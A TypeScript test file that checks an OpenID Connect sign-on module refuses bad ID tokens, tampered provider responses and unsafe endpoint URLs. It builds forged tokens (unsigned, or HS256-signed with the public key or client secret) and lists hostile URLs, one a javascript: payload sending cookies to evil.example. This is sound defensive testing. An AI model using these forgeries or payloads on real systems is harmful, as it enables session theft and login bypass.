import { createHash } from 'node:crypto'

import { exportJWK, generateKeyPair, type JWK, SignJWT, UnsecuredJWT } from 'jose'
import { beforeAll, describe, expect, test } from 'vitest'

import { createSingleSignOn } from './createSingleSignOn.ts'

const issuer = 'https://login.company.example'
const oidcClientId = 'rialto'
const flow = {
  redirectUrl: 'https://dashboard.example/single-sign-on',
  state: 'a-state-of-this-sign-in',
  nonce: 'a-nonce-of-this-sign-in',
  codeVerifier: 'a-verifier-of-this-sign-in-that-is-long-enough',
}
const provider = { issuer, oidcClientId, clientSecret: 'a secret of Rialto', groupsClaim: 'groups' }
const accessToken = 'an-access-token'
const nowSeconds = () => Math.floor(Date.now() / 1_000)

let own: CryptoKeyPair
let other: CryptoKeyPair
let published: JWK
beforeAll(async () => {
  own = (await generateKeyPair('RS256')) as CryptoKeyPair
  other = (await generateKeyPair('RS256')) as CryptoKeyPair
  published = { ...(await exportJWK(own.publicKey)), kid: 'k1', use: 'sig', alg: 'RS256' }
})

type Claims = Readonly<Record<string, unknown>>

const claims = (changes: Claims = {}): Record<string, unknown> => ({
  iss: issuer,
  aud: oidcClientId,
  sub: 'anna',
  email: 'anna@company.example',
  nonce: flow.nonce,
  iat: nowSeconds(),
  exp: nowSeconds() + 300,
  ...changes,
})

const signed = (payload: Record<string, unknown>, key: CryptoKey = own.privateKey, kid = 'k1') =>
  new SignJWT(payload).setProtectedHeader({ alg: 'RS256', kid }).sign(key)

/** The provider's endpoints with this ID token. */
const providerWith = (idToken: string | undefined, discovery: Claims = {}) => {
  const answers: Readonly<Record<string, unknown>> = {
    '/.well-known/openid-configuration': {
      issuer,
      authorization_endpoint: `${issuer}/auth`,
      token_endpoint: `${issuer}/token`,
      jwks_uri: `${issuer}/keys`,
      ...discovery,
    },
    '/token': { access_token: accessToken, token_type: 'Bearer', expires_in: 60, id_token: idToken },
    '/keys': { keys: [published] },
  }
  return createSingleSignOn(async url => Response.json(answers[new URL(url).pathname]), {
    isHttpAllowed: false,
    nowMs: Date.now,
  })
}

const read = (idToken: string | undefined, discovery?: Claims, query = `code=c&state=${flow.state}`) =>
  providerWith(idToken, discovery).readIdentity(provider, flow, query)

const atHashOf = (token: string) => createHash('sha256').update(token).digest().subarray(0, 16).toString('base64url')

test('a token of the provider to this application names the person', async () => {
  expect(await read(await signed(claims({ groups: ['staff'] })))).toMatchObject({
    subject: 'anna',
    email: 'anna@company.example',
    groups: ['staff'],
  })
})

describe('a token is accepted', () => {
  test.each<[string, () => Claims]>([
    ['whose time ended by a clock that is 30 seconds ahead', () => ({ exp: nowSeconds() - 30 })],
    ['that is valid from a moment 30 seconds ahead', () => ({ nbf: nowSeconds() + 30 })],
    [
      'to several applications that names this one as its party',
      () => ({ aud: ['other', oidcClientId], azp: oidcClientId }),
    ],
    ['with the hash of the access token beside it', () => ({ at_hash: atHashOf(accessToken) })],
  ])('%s', async (_name, changes) => {
    expect(await read(await signed(claims(changes())))).toMatchObject({ subject: 'anna' })
  })
})

describe('a token is refused', () => {
  test.each<[string, () => Claims]>([
    ['whose time ended two minutes ago', () => ({ exp: nowSeconds() - 120 })],
    ['that is valid from a moment two minutes ahead', () => ({ nbf: nowSeconds() + 120 })],
    ['of another issuer', () => ({ iss: 'https://login.other.example' })],
    ['of the issuer with a slash more', () => ({ iss: `${issuer}/` })],
    ['to another application', () => ({ aud: 'other' })],
    ['to several applications without the one', () => ({ aud: ['other', 'another'], azp: 'other' })],
    ['to several applications without a party', () => ({ aud: ['other', oidcClientId] })],
    ['to several applications with another party', () => ({ aud: ['other', oidcClientId], azp: 'other' })],
    ['of another sign-in', () => ({ nonce: 'a-nonce-of-another-sign-in' })],
    ['of no sign-in', () => ({ nonce: undefined })],
    ['without a subject', () => ({ sub: undefined })],
    ['without an end', () => ({ exp: undefined })],
    ['with the hash of another access token', () => ({ at_hash: atHashOf('another') })],
    ['with a hash that is not text', () => ({ at_hash: 7 })],
  ])('%s', async (_name, changes) => {
    await expect(read(await signed(claims(changes())))).rejects.toMatchObject({ name: 'ApiError' })
  })

  test('a forged signature under a published key id is refused', async () => {
    await expect(read(await signed(claims(), other.privateKey))).rejects.toMatchObject({ name: 'ApiError' })
  })

  test('an unpublished key is refused', async () => {
    await expect(read(await signed(claims(), other.privateKey, 'k2'))).rejects.toMatchObject({ name: 'ApiError' })
  })

  test.each([undefined, { id_token_signing_alg_values_supported: ['none', 'HS256', 'RS256'] }])(
    'that is not signed, whatever the provider announces: %j',
    async discovery => {
      const unsigned = new UnsecuredJWT(claims()).encode()
      await expect(read(unsigned, discovery)).rejects.toMatchObject({ name: 'ApiError' })
    },
  )

  test.each([undefined, { id_token_signing_alg_values_supported: ['HS256', 'RS256'] }])(
    'that is signed with a public key or the client secret as shared secret, whatever the provider announces: %j',
    async discovery => {
      for (const secret of [JSON.stringify(published), published.n ?? '', provider.clientSecret]) {
        const forged = await new SignJWT(claims())
          .setProtectedHeader({ alg: 'HS256', kid: 'k1' })
          .sign(new TextEncoder().encode(secret.padEnd(32)))
        await expect(read(forged, discovery)).rejects.toMatchObject({ name: 'ApiError' })
      }
    },
  )

  test('a missing token is refused', async () => {
    await expect(read(undefined)).rejects.toMatchObject({ name: 'ApiError' })
  })
})

describe('a response of the provider', () => {
  test.each([
    ['to another sign-in', {}, 'code=c&state=another-state'],
    ['without a state', {}, 'code=c'],
    ['that names another provider (RFC 9207)', {}, `code=c&state=${flow.state}&iss=https://login.other.example`],
    [
      'without the name of the provider, which announces that it names itself',
      { authorization_response_iss_parameter_supported: true },
      `code=c&state=${flow.state}`,
    ],
    ['with two codes', {}, `code=c&code=d&state=${flow.state}`],
    ['with a refusal', {}, `error=access_denied&state=${flow.state}`],
  ])('%s is refused before a code is redeemed', async (_name, discovery, query) => {
    let redeemed = 0
    const token = await signed(claims())
    const counting = createSingleSignOn(
      async url => {
        const { pathname } = new URL(url)
        if (pathname === '/token') redeemed += 1
        const document = { issuer, token_endpoint: `${issuer}/token`, jwks_uri: `${issuer}/keys`, ...discovery }
        return Response.json(pathname === '/token' ? { id_token: token } : document)
      },
      { isHttpAllowed: false, nowMs: Date.now },
    )
    await expect(counting.readIdentity(provider, flow, query)).rejects.toMatchObject({ name: 'ApiError' })
    expect(redeemed).toBe(0)
  })

  test('the provider’s own name is accepted', async () => {
    const query = `code=c&state=${flow.state}&iss=${encodeURIComponent(issuer)}`
    const names = { authorization_response_iss_parameter_supported: true }
    expect(await read(await signed(claims()), names, query)).toMatchObject({ subject: 'anna' })
  })

  test('a discovery document of another issuer is not believed', async () => {
    const found = read(await signed(claims()), { issuer: 'https://login.other.example' })
    await expect(found).rejects.toMatchObject({ name: 'ApiError' })
  })
})

test.each([
  'javascript:fetch(`//evil.example/${document.cookie}`)//',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'http://login.company.example/authorize',
  'relative',
])('a provider whose page is %s is refused, and its page never opened', async page => {
  const signOn = providerWith(undefined, { authorization_endpoint: page, end_session_endpoint: page })
  await expect(signOn.check(provider)).rejects.toMatchObject({ type: 'invalidField' })
  await expect(signOn.authorizationUrl(provider, flow)).rejects.toMatchObject({ type: 'serviceUnavailable' })
  expect(await signOn.logoutUrl(provider, 'https://rialto.example/')).toBeUndefined()
})

test('the pages of a provider on the web are opened', async () => {
  const pages = { authorization_endpoint: `${issuer}/authorize?tenant=1`, end_session_endpoint: `${issuer}/end` }
  const signOn = providerWith(undefined, pages)
  await signOn.check(provider)
  expect(await signOn.authorizationUrl(provider, flow)).toMatch(/\.example\/authorize\?tenant=1&/)
  expect(await signOn.logoutUrl(provider, 'https://rialto.example/')).toMatch(/\.example\/end\?/)
})
